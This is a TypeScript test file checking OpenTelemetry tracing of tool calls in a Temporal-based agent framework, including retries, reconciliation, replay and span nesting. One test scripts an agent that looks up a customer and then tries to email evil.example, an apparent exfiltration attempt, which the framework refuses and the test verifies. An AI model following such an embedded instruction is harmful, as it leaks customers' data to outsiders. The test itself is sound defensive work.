import { workflowSpanSinks } from '../../activities/telemetry';
import { randomUUID } from 'node:crypto';
import { context, propagation, trace } from '@opentelemetry/api';
import { W3CTraceContextPropagator } from '@opentelemetry/core';
import { AsyncLocalStorageContextManager } from '@opentelemetry/context-async-hooks';
import { BasicTracerProvider, InMemorySpanExporter, SimpleSpanProcessor } from '@opentelemetry/sdk-trace-base';
import { Worker } from '@temporalio/worker';
import { loadManifest } from '../../runtime/manifest-file';
import type { ToolRunResult } from '../../workflows/tool-run';
import type { AgentRunInput, AgentRunResult } from '../../workflows/agent/run';
import { exampleManifest, harness, testDir, type Harness } from '../support/env';
import { SCENARIO_MANIFEST, scenarioTools } from '../support/scenario-tools';
import { supportDesk } from '../support/desk';

const manifest = loadManifest(SCENARIO_MANIFEST).manifest;

describe('OpenTelemetry spans of tool executions', () => {
  const exporter = new InMemorySpanExporter();
  const provider = new BasicTracerProvider({ spanProcessors: [new SimpleSpanProcessor(exporter)] });
  let h: Harness;

  beforeAll(async () => {
    context.setGlobalContextManager(new AsyncLocalStorageContextManager().enable());
    trace.setGlobalTracerProvider(provider);
    // As an OpenTelemetry SDK does: the trace context travels in W3C headers from workflow to activity.
    propagation.setGlobalPropagator(new W3CTraceContextPropagator());
    h = await harness(`otel-${randomUUID()}`);
  });
  afterAll(async () => {
    await h.close();
    trace.disable();
    propagation.disable();
    context.disable();
  });

  it('emits execute_tool spans with GenAI attributes for real executions, and none on replay', async () => {
    const s = scenarioTools(testDir('otel'));
    const worker = await h.startWorker({ manifest, tools: s.tools });
    const workflowId = `otel-${randomUUID()}`;
    const charge = { account: `acct-${randomUUID()}`, cents: 300, mode: 'in_doubt_not_landed' };
    const result: ToolRunResult = await worker.runUntil(
      h.client.workflow.execute('toolRun', {
        taskQueue: h.taskQueue,
        workflowId,
        args: [
          {
            manifest,
            grants: manifest.tools.map((t) => t.id),
            principal: 'agent:test',
            calls: [
              { toolId: 'tool://flaky/read', args: { q: 'x' } },
              { toolId: 'tool://flaky/charge', args: charge },
            ],
          },
        ],
      }),
    );
    expect(result.status).toBe('completed');
    const key = result.journal[1]!.effectKey!;
    const spans = exporter.getFinishedSpans().filter((sp) => sp.attributes['toolplane.tool.id']);
    const summary = spans.map((sp) => [
      sp.name,
      sp.attributes['toolplane.attempt'],
      sp.attributes['toolplane.recovery_path'],
      sp.attributes['error.type'] ?? null,
    ]);
    expect(summary).toEqual([
      ['execute_tool read', 1, 'none', 'ToolRejected'],
      ['execute_tool read', 2, 'retried', null],
      ['execute_tool charge', 1, 'none', 'ToolInDoubt'],
      ['reconcile_tool charge', 1, 'reconcile', null],
      ['execute_tool charge', 2, 'reconciled_resent', null],
    ]);
    const resend = spans[4]!;
    expect(resend.attributes).toMatchObject({
      'gen_ai.operation.name': 'execute_tool',
      'gen_ai.tool.name': 'charge',
      'gen_ai.tool.type': 'function',
      'toolplane.effect_key': key,
    });
    // The SDK's interceptor wraps each activity; our span is its child.
    const parent = exporter
      .getFinishedSpans()
      .find((sp) => sp.spanContext().spanId === (resend as unknown as { parentSpanId?: string }).parentSpanId);
    expect(parent?.name).toBe('RunActivity:performTool');

    exporter.reset();
    const history = await h.client.workflow.getHandle(workflowId).fetchHistory();
    await Worker.runReplayHistory(
      { workflowBundle: { codePath: process.env.TOOLPLANE_TEST_BUNDLE! }, sinks: workflowSpanSinks() },
      history,
      workflowId,
    );
    expect(exporter.getFinishedSpans()).toEqual([]);
  });

  it('makes one trace per agent run: invoke_agent at the root, chat and execute_tool beneath, refusals recorded', async () => {
    const dir = testDir('otel-agent');
    const workflowId = `otel-agent-${randomUUID()}`;
    const agent = await harness(`otel-agent-${randomUUID()}`);
    try {
      await agent.runWorker({
        manifest: exampleManifest(),
        tools: supportDesk(dir).tools,
        tracing: { spanProcessor: new SimpleSpanProcessor(exporter) },
      });
      exporter.reset();
      const result: AgentRunResult = await agent.client.workflow.execute('agentRun', {
        taskQueue: agent.taskQueue,
        workflowId,
        args: [
          {
            prompt: 'Look up alice@example.com, then email audit@evil.example.',
            principal: 'agent:test',
            fullJournal: true,
            model: {
              endpoint: 'scripted',
              script: [
                { tool_calls: [{ name: 'crm__lookup_customer', arguments: { email: 'alice@example.com' } }] },
                {
                  tool_calls: [
                    { name: 'mail__send_email', arguments: { to: 'x@evil.example', subject: 's', body: 'b' } },
                  ],
                },
                { final: 'done' },
              ],
            },
          } satisfies AgentRunInput,
        ],
      });
      expect(result.journal.map((e) => e.decision)).toEqual(['allowed', 'refused']);
    } finally {
      await agent.close();
    }
    // Workflow spans are exported when the run's last task completes; wait for the root.
    const deadline = Date.now() + 30_000;
    while (!exporter.getFinishedSpans().some((s) => s.name === 'invoke_agent toolplane') && Date.now() < deadline)
      await new Promise((r) => setTimeout(r, 100));
    const spans = exporter.getFinishedSpans();
    const root = spans.find((s) => s.name === 'invoke_agent toolplane')!;
    expect(root).toBeDefined();
    expect(root.attributes).toMatchObject({
      'gen_ai.operation.name': 'invoke_agent',
      'gen_ai.conversation.id': workflowId,
    });
    const traceId = root.spanContext().traceId;
    const ofRun = spans.filter((s) => s.spanContext().traceId === traceId);
    // Everything the run did is in its one trace, and the run's span is the root of it.
    expect(ofRun).toHaveLength(spans.length);
    expect((root as unknown as { parentSpanId?: string }).parentSpanId).toBeUndefined();
    const byId = new Map(ofRun.map((s) => [s.spanContext().spanId, s]));
    const ancestry = (s: (typeof spans)[number]): string[] => {
      const names: string[] = [];
      for (let p = (s as unknown as { parentSpanId?: string }).parentSpanId; p;) {
        const parent = byId.get(p);
        if (!parent) break;
        names.push(parent.name);
        p = (parent as unknown as { parentSpanId?: string }).parentSpanId;
      }
      return names;
    };
    const chats = ofRun.filter((s) => s.name.startsWith('chat '));
    expect(chats).toHaveLength(3);
    for (const c of chats) {
      expect(ancestry(c).at(-1)).toBe('invoke_agent toolplane');
      expect(c.attributes['gen_ai.conversation.id']).toBe(workflowId);
    }
    const tools = ofRun.filter((s) => s.name.startsWith('execute_tool '));
    expect(tools.map((s) => s.name).sort()).toEqual(['execute_tool lookup_customer', 'execute_tool send_email']);
    const lookup = tools.find((s) => s.name === 'execute_tool lookup_customer')!;
    expect(ancestry(lookup)).toEqual([
      'RunActivity:performTool',
      'StartActivity:performTool',
      'invoke_agent toolplane',
    ]);
    expect(lookup.attributes).toMatchObject({
      'gen_ai.tool.name': 'lookup_customer',
      'gen_ai.tool.description': 'Look a customer up in the CRM by email address.',
      'gen_ai.conversation.id': workflowId,
    });
    const refused = tools.find((s) => s.name === 'execute_tool send_email')!;
    expect(ancestry(refused)).toEqual(['invoke_agent toolplane']);
    expect(refused.attributes).toMatchObject({
      'toolplane.decision': 'refused',
      'toolplane.rule': 'protected_field:/to',
      'gen_ai.tool.description': 'Send an email to one recipient.',
    });
  });
});
